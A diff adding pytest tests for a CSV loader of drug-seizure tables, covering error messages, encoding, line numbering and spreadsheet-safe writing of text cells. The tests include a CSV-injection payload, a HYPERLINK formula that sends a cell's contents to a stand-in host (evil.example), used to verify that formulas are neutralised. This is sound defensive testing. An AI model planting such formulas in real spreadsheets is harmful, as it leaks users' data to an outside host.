@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import pandas as pd
@@ -163,3 +164,200 @@ def test_whole_numbers_in_a_float_column_load_as_floats(tmp_path):
     write_csv(tmp_path, [HEADER, "KAZ,2017,1,heroin,12,x,official", "KGZ,2017,1,heroin,3,x,official"])
     table = load_table("seizures_quarterly", tmp_path)
     assert table.dtypes["kg"] == "float64"
+
+
+# Issue 12: messages that name the place as an editor shows it, and cells safe in a spreadsheet.
+
+
+def test_header_only_table_loads_as_an_empty_table(tmp_path):
+    write_csv(tmp_path, [HEADER])
+    table = load_table("seizures_quarterly", tmp_path)
+    assert table.empty
+    assert list(table.columns) == HEADER.split(",")
+    assert table.dtypes["year"] == "int64" and table.dtypes["kg"] == "float64"
+
+
+def test_an_empty_whole_number_cell_is_reported_once_without_type_jargon(tmp_path):
+    error = load_error(tmp_path, [HEADER, GOOD, "KGZ,,1,heroin,1,x,official"])
+    assert [(p.line, p.column) for p in error.problems] == [(3, "year")]
+    assert "dtype" not in str(error) and "Int64" not in str(error)
+
+
+@pytest.mark.parametrize(
+    "before",
+    [
+        ["", GOOD],  # a blank line
+        ['KAZ,2017,1,heroin,12.5,"a source written\non two lines",reconstructed'],
+        ["", 'KAZ,2017,1,heroin,12.5,"a source\r\nwritten on two lines",reconstructed'],
+    ],
+    ids=["blank-line", "quoted-cell-on-two-lines", "both-crlf"],
+)
+def test_lines_are_counted_as_an_editor_counts_them(tmp_path, before):
+    bad = "KGZ,2017,2,heroin,-3,x,official"
+    lines = [HEADER, *before, bad]
+    path = tmp_path / "seizures_quarterly.csv"
+    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
+    editor_line = path.read_text().splitlines().index(bad) + 1
+    with pytest.raises(TableError) as caught:
+        load_table("seizures_quarterly", tmp_path)
+    assert [(p.line, p.column) for p in caught.value.problems] == [(editor_line, "kg")]
+
+
+def test_a_ragged_record_is_named_on_its_first_line(tmp_path):
+    error = load_error(tmp_path, [HEADER, "", 'KAZ,2017,1,heroin,1,"x\ny",official,extra'])
+    assert [p.line for p in error.problems] == [3]
+
+
+def test_a_field_over_the_size_limit_names_file_line_column_and_the_likely_cause(tmp_path):
+    huge = "x" * 200_000
+    error = load_error(tmp_path, [HEADER, GOOD, f'KAZ,2017,2,heroin,1,"{huge}",official'])
+    message = str(error)
+    assert str(tmp_path / "seizures_quarterly.csv") in message
+    assert "line 3, column 'source'" in message
+    assert "131,072 characters" in message and "quote" in message
+
+
+def test_an_unclosed_quote_is_named_on_the_line_it_opens(tmp_path):
+    error = load_error(tmp_path, [HEADER, 'KAZ,2017,1,heroin,1,"unclosed,official', GOOD, GOOD])
+    assert [p.line for p in error.problems] == [2]
+    assert "runs from line 2 to line 4" in str(error)
+
+
+def test_a_column_named_twice_is_refused_in_plain_words(tmp_path):
+    error = load_error(tmp_path, [HEADER + ",kg", GOOD + ",1"])
+    assert [(p.line, p.column) for p in error.problems] == [(1, "kg")]
+    assert "each column once" in str(error)
+
+
+def test_a_file_that_is_not_utf8_names_the_line(tmp_path):
+    path = tmp_path / "seizures_quarterly.csv"
+    path.write_bytes(f"{HEADER}\n{GOOD}\nKAZ,2017,2,heroin,1,Кыргызстан,official\n".encode("cp1251"))
+    with pytest.raises(TableError, match="line 3") as caught:
+        load_table("seizures_quarterly", tmp_path)
+    assert "UTF-8" in str(caught.value)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+@pytest.mark.parametrize(
+    "text", [FORMULA, "+1+1", "-cmd", "@SUM(A1)", "'=quoted already", "'plain quote", "-12.5"]
+)
+def test_text_cells_are_written_spreadsheet_safe_and_read_back_unchanged(tmp_path, text):
+    frame = pd.DataFrame(
+        {
+            "country": ["KAZ"],
+            "year": [2017],
+            "quarter": [1],
+            "drug": ["heroin"],
+            "kg": [1.5],
+            "source": [text],
+            "status": ["official"],
+        }
+    )
+    path = write_table("seizures_quarterly", frame, tmp_path)
+    with path.open(newline="") as handle:
+        cell = list(csv.DictReader(handle))[0]["source"]
+    if text == "-12.5" or text == "'plain quote":
+        assert cell == text  # a number, or a quote before no formula character: as it is
+    else:
+        assert cell == "'" + text  # a spreadsheet shows it as text, never runs it
+    assert load_table("seizures_quarterly", tmp_path).loc[0, "source"] == text
+
+
+def test_seizure_cases_written_spreadsheet_safe_and_read_back_unchanged(tmp_path):
+    from bulletin.importers import cases
+
+    frame = pd.DataFrame(
+        {
+            "case_id": ["=1+1", "B"],
+            "date": ["2016", "2016"],
+            "country": ["KGZ", "KGZ"],
+            "drug": ["heroin", "heroin"],
+            "kg": ["1.5", "2"],
+            "producing_country": ["", ""],
+            "departure_country": ["", ""],
+            "transit_countries": ["", ""],
+            "destination_country": ["", ""],
+            "source": [FORMULA, "plain"],
+            "status": ["official", "official"],
+        }
+    )
+    frame.to_csv(tmp_path / "seizure_cases.csv", index=False)
+    table = cases.read_cases(tmp_path)  # a file not written by the project: read as it is
+    out = tmp_path / "out"
+    cases.write_cases(table, out)
+    text = (out / "seizure_cases.csv").read_text()
+    assert "'=1+1" in text and "'=HYPERLINK" in text
+    back = cases.read_cases(out)
+    assert back.column("case_id").to_pylist() == ["=1+1", "B"]
+    assert back.column("source").to_pylist() == [FORMULA, "plain"]
+    assert load_table("seizure_cases", out)["source"].tolist() == [FORMULA, "plain"]
+
+
+def test_seizure_cases_problems_name_the_editor_s_line(tmp_path):
+    from bulletin.importers import cases
+
+    header = (
+        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
+        "destination_country,source,status"
+    )
+    good = 'A,2016,KGZ,heroin,1,,,,,"two\nlines",official'
+    bad = "B,2016,XXX,heroin,1,,,,,s,official"
+    (tmp_path / "seizure_cases.csv").write_text(f"{header}\n\n{good}\n{bad}\n")
+    with pytest.raises(TableError) as caught:
+        cases.read_cases(tmp_path)
+    assert [(p.line, p.column) for p in caught.value.problems] == [(5, "country")]
+
+
+def test_shipped_tables_are_written_back_byte_for_byte(tmp_path):
+    for name in table_specs():
+        path = DATA_DIR / f"{name}.csv"
+        write_table(name, load_table(name, DATA_DIR), tmp_path)
+        assert (tmp_path / f"{name}.csv").read_bytes() == path.read_bytes(), name
+
+
+@pytest.mark.parametrize("value", ["99999999999999999999", "9.223372036854776e+18", "1e309"])
+def test_a_whole_number_too_large_for_the_table_is_refused(tmp_path, value):
+    error = load_error(tmp_path, [HEADER, f"KAZ,{value},1,heroin,1,x,official"])
+    assert [(p.line, p.column) for p in error.problems] == [(2, "year")]
+    assert "at most 19 digits" in str(error)
+
+
+def test_seizure_cases_not_utf8_in_the_header_is_refused_with_its_line(tmp_path):
+    from bulletin.importers import cases
+
+    (tmp_path / "seizure_cases.csv").write_bytes("Öcase_id,date\n".encode("latin-1"))
+    with pytest.raises(TableError, match="line 1") as caught:
+        cases.read_cases(tmp_path)
+    assert "UTF-8" in str(caught.value)
+
+
+def test_seizure_cases_with_a_stray_quote_in_the_header_is_refused(tmp_path):
+    from bulletin.importers import cases
+
+    header = (
+        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
+        'destination_country,source,status"'
+    )
+    (tmp_path / "seizure_cases.csv").write_text(f"{header}\nA,2016,KGZ,heroin,1,,,,,s,official\n")
+    with pytest.raises(TableError) as caught:
+        cases.read_cases(tmp_path)
+    assert (1, 'status"') in {(p.line, p.column) for p in caught.value.problems}
+
+
+def test_seizure_cases_with_a_problem_and_a_field_over_the_csv_limit(tmp_path):
+    from bulletin.importers import cases
+
+    header = (
+        "case_id,date,country,drug,kg,producing_country,departure_country,transit_countries,"
+        "destination_country,source,status"
+    )
+    row = "A,2016,KGZ,heroin,1,,,,,s,official"
+    huge = "A,2016,KGZ,heroin,1,,,,," + "x" * 200_000 + ",official"
+    (tmp_path / "seizure_cases.csv").write_text(f"{header}\n{row}\n{huge}\n")
+    with pytest.raises(TableError) as caught:
+        cases.read_cases(tmp_path)
+    places = {(p.line, p.column) for p in caught.value.problems}
+    assert (2, "case_id") in places and (3, "case_id") in places  # the same case twice
+    assert any("131,072 characters" in p.expected for p in caught.value.problems)
